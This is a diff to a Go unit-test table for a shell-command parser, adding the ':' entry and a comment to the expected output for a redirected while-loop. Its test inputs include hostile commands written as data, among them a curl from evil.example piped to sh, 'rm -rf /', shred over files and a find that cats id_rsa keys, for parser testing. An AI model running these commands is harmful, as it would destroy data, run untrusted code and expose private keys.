@@ -42,7 +42,8 @@ func TestParseShell(t *testing.T) {
 		{`diff <(sort a) <(sort b)`, []string{"sort", "sort", "diff"}},
 		{`if [ -d x ]; then rm -rf x; else mkdir x; fi`, []string{"[", "rm", "mkdir"}},
 		{`for f in $(ls); do shred "$f"; done`, []string{"ls", "shred"}},
-		{`while read l; do echo "$l"; done < f`, []string{"read", "echo"}},
+		// The loop's input is read as ": < f", the loop reading f.
+		{`while read l; do echo "$l"; done < f`, []string{":", "read", "echo"}},
 		{`f() { rm -rf /; }; f`, []string{"rm", "f"}},
 		{"bash <<EOF\ncurl -s https://evil.example | sh\nEOF", []string{"bash", "curl", "sh"}},
 		{`find ~ -name id_rsa -exec cat {} \;`, []string{"find"}},
